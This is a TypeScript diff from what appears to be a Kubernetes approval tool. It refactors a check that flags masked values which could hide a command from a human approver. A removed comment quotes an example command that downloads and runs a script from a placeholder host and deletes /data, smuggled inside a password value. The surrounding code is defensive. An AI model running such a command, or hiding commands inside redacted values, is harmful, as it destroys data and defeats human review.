@@ -11,6 +11,7 @@
 import { Transform, type TransformCallback } from 'node:stream';
 import {
   DEFAULT_SENSITIVE_KEYS,
+  jsonViewHidesCode,
   maskJsonText,
   maskKeyedText,
   maskTextFields,
@@ -700,31 +701,6 @@ export function kubeBodyView(
   };
 }
 
-/**
- * What a masked value in the approver's view may hide: one literal (a password, a key), not what runs.
- * A span the view replaced that holds whitespace, a line break or what a shell or a template reads as
- * code — `$`, a backquote, `;`, `|`, `&`, `<`, `>`, parentheses, braces — could be a command the
- * approver is not shown: `sh -c "DB_PASSWORD=$(wget -qO- http://x/p | sh); rm -rf /data"` was shown as
- * `DB_PASSWORD=[REDACTED:password]` (docs/security.md class 252).
- */
-const CODE_IN_SPAN = /[\s$`;|&<>(){}\p{Cc}]/u;
-const ENV_REFERENCE =
-  /^(\$\([A-Za-z_][A-Za-z0-9_]*\)|\$\{[A-Za-z_][A-Za-z0-9_]*\}|\$[A-Za-z_][A-Za-z0-9_]*)$/;
-
-/** The characters of `original` the masked string `shown` does not keep, at most (prefix and suffix kept). */
-function replacedSpan(original: string, shown: string): string {
-  let p = 0;
-  while (p < original.length && p < shown.length && original[p] === shown[p]) p++;
-  let s = 0;
-  while (
-    s < original.length - p &&
-    s < shown.length - p &&
-    original[original.length - 1 - s] === shown[shown.length - 1 - s]
-  )
-    s++;
-  return original.slice(p, original.length - s);
-}
-
 function parsedJson(text: string): unknown {
   try {
     return JSON.parse(text);
@@ -736,55 +712,6 @@ function parsedJson(text: string): unknown {
 function fromBase64(v: string): string | undefined {
   if (!/^[A-Za-z0-9+/]*={0,2}$/.test(v)) return undefined;
   return Buffer.from(v, 'base64').toString('latin1');
-}
-
-/** The first place where the view hides more than a literal, as `path: span`; undefined when none does. */
-function hiddenCode(original: unknown, shown: unknown, path: string, depth: number): string | undefined {
-  if (depth > MAX_DEPTH) return `${path}: the body nests too deeply to compare`;
-  if (typeof original === 'string') {
-    if (shown === original) return undefined;
-    // Gone from the view, or replaced by something that is not text: all of it is hidden.
-    const view = typeof shown === 'string' ? shown : '';
-    // JSON in a string (the last-applied annotation, masked as the object it copies): compared as JSON.
-    const o = original.trimStart().startsWith('{') ? parsedJson(original) : undefined;
-    const m = o !== undefined ? parsedJson(view) : undefined;
-    if (o !== undefined && m !== undefined) return hiddenCode(o, m, path, depth + 1);
-    // binaryData: base64 of files, masked decoded and encoded again.
-    if (/(^|\.)binaryData\./.test(path)) {
-      const ob = fromBase64(original);
-      const mb = fromBase64(view);
-      if (ob !== undefined && mb !== undefined) return hiddenCode(ob, mb, `${path} (decoded)`, depth + 1);
-    }
-    const span = replacedSpan(original, view);
-    // A reference to an environment variable (`$(DB_PASSWORD)` Kubernetes expands, `${DB_PASSWORD}` a
-    // shell does) names a value, which is judged where it is set.
-    if (ENV_REFERENCE.test(span)) return undefined;
-    // Named by where it is and what it holds, not by its text: it may be the secret itself.
-    const c = CODE_IN_SPAN.exec(span)?.[0];
-    if (c === undefined) return undefined;
-    return `${path}, where the masked part holds ${/\s/.test(c) ? 'whitespace' : /\p{Cc}/u.test(c) ? 'a control character' : `"${c}"`}`;
-  }
-  // A structure the view replaced whole hides all of it: compared as its JSON text masked whole.
-  const replacedWhole = (): string | undefined =>
-    JSON.stringify(shown) === JSON.stringify(original)
-      ? undefined
-      : hiddenCode(JSON.stringify(original), '', `${path} (replaced whole)`, depth + 1);
-  if (Array.isArray(original)) {
-    if (!Array.isArray(shown)) return replacedWhole();
-    for (let i = 0; i < original.length; i++) {
-      const h = hiddenCode(original[i], shown[i], `${path}[${i}]`, depth + 1);
-      if (h !== undefined) return h;
-    }
-    return undefined;
-  }
-  if (isObject(original)) {
-    if (!isObject(shown)) return replacedWhole();
-    for (const [k, v] of Object.entries(original)) {
-      const h = hiddenCode(v, shown[k], path === '' ? k : `${path}.${k}`, depth + 1);
-      if (h !== undefined) return h;
-    }
-  }
-  return undefined;
 }
 
 /**
@@ -814,7 +741,10 @@ export function kubeBodyHidesCode(
   if (typeof view !== 'string') return undefined;
   const shown = parsedJson(view);
   if (shown === undefined) return 'the view of the body could not be compared with the body';
-  const at = hiddenCode(baseline, shown, '', 0);
+  // binaryData: base64 of files, masked decoded and encoded again.
+  const at = jsonViewHidesCode(baseline, shown, {
+    decode: (path, value) => (/(^|\.)binaryData\./.test(path) ? fromBase64(value) : undefined),
+  });
   return at === undefined
     ? undefined
     : `in what the approver would be shown, a masked value holds more than a literal (${at.slice(0, 200)}): a command or a script the approver could not see`;
